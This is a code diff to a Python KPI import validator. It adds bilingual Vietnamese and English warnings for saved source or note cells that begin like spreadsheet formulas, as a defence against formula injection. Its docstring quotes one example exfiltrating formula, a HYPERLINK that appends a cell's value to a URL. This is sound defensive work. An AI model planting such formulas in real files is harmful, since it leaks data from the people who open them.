@@ -21,6 +21,7 @@ from kpis.errors import Problem
 from kpis.i18n import plain_number
 from kpis.plan import Plan
 from kpis.regions import fold_diacritics
+from kpis.safe_cells import FORMULA_START_PATTERN
 from kpis.ui_text import is_illustrative
 
 # A ratio this far from 1 is what a slipped thousands separator (×1000, ×1/1000), a
@@ -436,3 +437,37 @@ def new_regions(plan: Plan, saved: pd.DataFrame, added: pd.DataFrame, file: str)
 
 
 _NAMED_REGIONS = 5  # the known regions a new region's warning names
+
+
+def formula_cells(news: pd.DataFrame, file: str) -> list[Problem]:
+    """A warning for each source or note about to be saved that begins as a formula would
+    (`= + - @`, a tab or carriage return): opened straight in Excel or LibreOffice, the figures
+    file runs it (`=HYPERLINK("http://…?x="&A1)` sends a cell away). Kept as typed, the
+    person saving must have seen it (the exports and the audit trail defuse it anyway)."""
+    problems: list[Problem] = []
+    for column, word_vi, word_en in (("source", "nguồn", "source"), ("note", "ghi chú", "note")):
+        if column not in news or not len(news):
+            continue
+        texts = news[column].fillna("").astype(str)
+        # Vectorised first: a year's import has 34,000 sources, nearly all plain text.
+        risky = texts.str.match(FORMULA_START_PATTERN)
+        for row, text in zip(news[risky].itertuples(index=False), texts[risky], strict=True):
+            shown = text if len(text) <= 80 else text[:79] + "…"
+            first = repr(text[0])[1:-1] if text[0] in "\t\r" else text[0]
+            problems.append(
+                Problem(
+                    file,
+                    f"{word_vi} «{shown}» bắt đầu bằng «{first}»: Excel hoặc LibreOffice mở tệp "
+                    "số liệu sẽ chạy nó như một công thức (có thể gửi dữ liệu ra ngoài); nếu "
+                    f"không cố ý, sửa lại ô này (bỏ «{first}» ở đầu); nếu đúng là văn bản, lưu "
+                    "sau khi đã kiểm tra: bảng điều khiển vẫn hiện đúng như đã gõ",
+                    f"{word_en} «{shown}» begins with «{first}»: Excel or LibreOffice opening "
+                    "the figures file would run it as a formula (it may send data away); if "
+                    f"that was not meant, correct the cell (drop the leading «{first}»); if it "
+                    "is meant as text, save once checked: the dashboard still shows it as typed",
+                    line=int(row.line) or None,
+                    column=column,
+                    severity="warning",
+                )
+            )
+    return problems
